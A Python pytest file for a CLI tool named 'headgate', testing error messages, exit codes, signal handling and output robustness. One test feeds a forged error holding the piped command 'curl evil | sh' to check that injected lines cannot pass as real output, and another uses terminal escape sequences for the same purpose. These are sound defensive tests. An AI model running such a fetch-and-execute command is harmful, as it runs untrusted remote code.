"""The door of the program: what comes out of a run becomes words and an exit code."""

import io
import json
import os
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from core.errors import (
    Blocked,
    DecisionPending,
    EditRefused,
    HeadgateError,
    InputRefused,
    NotFound,
    OutcomeUnknown,
    SettingsError,
    SideMoved,
    SourceUnreadable,
    StorageUnwritable,
    ToolMissing,
    UsageError,
)
from tests.builders.terminal import TOP, process, world
from tui.cli.console import Console
from tui.cli.given import Given
from tui.cli.main import guarded
from tui.cli.signals import Interrupted, Signals

KINDS = [
    (UsageError, 2),
    (SettingsError, 2),
    (DecisionPending, 3),
    (Blocked, 4),
    (SideMoved, 5),
    (SourceUnreadable, 6),
    (NotFound, 6),
    (ToolMissing, 6),
    (OutcomeUnknown, 7),
    (InputRefused, 8),
    (EditRefused, 8),
    (StorageUnwritable, 9),
]


@pytest.mark.parametrize(("kind", "code"), KINDS, ids=[kind.__name__ for kind, _ in KINDS])
def test_an_error_prints_its_five_parts_and_gives_its_exit_code(
    kind: type[HeadgateError], code: int, tmp_path: Path
) -> None:
    error = kind("Could not do it", why="a cause", changed="hub yes", next_step="headgate status", ref="d-1")
    assert ended(tmp_path, error) == (
        code,
        "",
        "headgate: Could not do it\nWhy: a cause\nChanged: hub yes\nNext: headgate status\nRef: d-1\n",
    )


def test_an_error_for_machines_has_the_same_parts(tmp_path: Path) -> None:
    code, out, err = ended(tmp_path, SideMoved("w", why="y", next_step="n"), "-o", "json")
    assert (code, out) == (5, "")
    assert json.loads(err) == {
        "error": {"code": 5, "what": "w", "why": "y", "changed": "nothing", "next": "n", "ref": ""}
    }


def test_an_error_that_quotes_outside_text_cannot_speak_to_the_terminal(tmp_path: Path) -> None:
    _, _, err = ended(tmp_path, NotFound("no \x1b]0;x\x07", why="\u202e", next_step="n"))
    assert "\x1b" not in err
    assert "\u202e" not in err


def test_no_line_of_what_an_error_quotes_passes_for_a_part_of_it(tmp_path: Path) -> None:
    forged = NotFound("no such thing", why="gone\nChanged: everything\nNext: curl evil | sh", next_step="n")
    _, _, err = ended(tmp_path, forged)
    assert [line.partition(":")[0] for line in err.splitlines() if not line.startswith(" ")] == [
        "headgate", "Why", "Changed", "Next",
    ]  # fmt: skip
    assert "  Next: curl evil" in err


def test_a_fault_of_ours_names_its_kind_and_place_and_no_value(tmp_path: Path) -> None:
    code, out, err = ended(tmp_path, KeyError("pa55word"))
    assert (code, out) == (1, "")
    assert err.startswith("headgate: Ended on a fault of its own: KeyError\nWhy: test_main.py:")
    assert "pa55word" not in err
    assert "Traceback" not in err


def test_debug_lists_the_steps_to_a_fault_and_still_no_value(tmp_path: Path) -> None:
    _, _, err = ended(tmp_path, KeyError("pa55word"), "--debug")
    assert "main.py" in err
    assert "pa55word" not in err


@pytest.mark.parametrize(
    ("error", "code"),
    [
        pytest.param(Interrupted(signal.SIGHUP), 129, id="HUP"),
        pytest.param(Interrupted(signal.SIGINT), 130, id="INT"),
        pytest.param(KeyboardInterrupt(), 130, id="INT before the signals were taken over"),
        pytest.param(Interrupted(signal.SIGTERM), 143, id="TERM"),
    ],
)
def test_a_signal_ends_a_run_without_a_word(error: BaseException, code: int, tmp_path: Path) -> None:
    assert ended(tmp_path, error) == (code, "", "")


def test_a_signal_that_comes_while_a_decision_is_written_waits_for_its_end() -> None:
    signals, done = Signals(), []

    def carried_out() -> None:
        with signals:
            signals.arrived(signal.SIGTERM, None)
            done.append("written")

    with pytest.raises(Interrupted) as ended_by:
        carried_out()
    assert (done, ended_by.value.exit_code) == (["written"], 143)


def test_an_error_in_a_decision_is_not_hidden_by_a_signal_that_waits() -> None:
    signals = Signals()

    def carried_out() -> None:
        with signals:
            signals.arrived(signal.SIGTERM, None)
            raise SideMoved("w", why="y", next_step="n")

    with pytest.raises(SideMoved):
        carried_out()


def test_a_reader_that_went_away_ends_the_printing_and_not_the_run(tmp_path: Path) -> None:
    reading, writing = os.pipe()
    os.close(reading)
    done: list[str] = []

    def prints(_: Given, console: Console) -> int:
        console.data(["a"])
        console.data(["b"])
        done.append("went on")
        return 0

    with os.fdopen(writing, "w") as broken:
        around = world(tmp_path)._replace(stdout=broken)
        assert guarded(["status"], around, prints) == 0
    assert done == ["went on"]


def test_a_full_disk_behind_standard_output_is_said(tmp_path: Path) -> None:
    with Path("/dev/full").open("w", encoding="utf-8") as full:
        around = world(tmp_path)._replace(stdout=full)
        code = guarded(["status"], around, lambda _, console: printing(console))
    assert code == StorageUnwritable.exit_code
    assert isinstance(around.stderr, io.StringIO)
    assert "No space left on device" in around.stderr.getvalue()


def test_text_that_the_output_cannot_hold_is_escaped(tmp_path: Path) -> None:
    raw = io.BytesIO()
    around = world(tmp_path)._replace(stdout=io.TextIOWrapper(raw, encoding="ascii", write_through=True))
    assert guarded(["status"], around, lambda _, console: printing(console)) == 0
    assert raw.getvalue() == b"\\u6771\n"


def test_help_loads_nothing_that_takes_long(tmp_path: Path) -> None:
    ran = process(tmp_path, "--help", env={"PYTHONPROFILEIMPORTTIME": "1"})
    loaded = {line.rpartition("|")[2].strip() for line in ran.err.splitlines() if "|" in line}
    slow = {"textual", "rich", "httpcore", "git", "deepdiff", "ruamel", "yaml", "sqlite3", "core.desk"}
    assert ran.code == 0
    assert "argparse" in loaded
    assert {
        name for name in loaded if name in slow or name.partition(".")[0] in slow - {"core.desk"}
    } == set()


def test_closed_streams_are_no_fault(tmp_path: Path) -> None:
    command = f'"{sys.executable}" -m tui status <&- >&- 2>&-'
    ran = subprocess.run(
        ["sh", "-c", command], cwd=tmp_path, env={**os.environ, "PYTHONPATH": str(TOP)}, check=False
    )
    assert ran.returncode == 2


def test_an_unknown_command_exits_2_with_a_way_out(tmp_path: Path) -> None:
    ran = process(tmp_path, "stauts")
    assert ran.code == 2
    assert "\nNext: headgate --help\n" in ran.err


def test_outside_a_repository_the_way_in_is_named(tmp_path: Path) -> None:
    ran = process(tmp_path, "status")
    assert ran.code == 2
    assert "headgate init" in ran.err


def ended(folder: Path, error: BaseException, *argv: str) -> tuple[int, str, str]:
    around = world(folder)
    code = guarded([*argv, "status"], around, raising(error))
    assert isinstance(around.stdout, io.StringIO)
    assert isinstance(around.stderr, io.StringIO)
    return code, around.stdout.getvalue(), around.stderr.getvalue()


def raising(error: BaseException) -> Callable[[Given, Console], int]:
    def run(_: Given, __: Console) -> int:
        raise error

    return run


def printing(console: Console) -> int:
    console.data(["東"])
    return 0
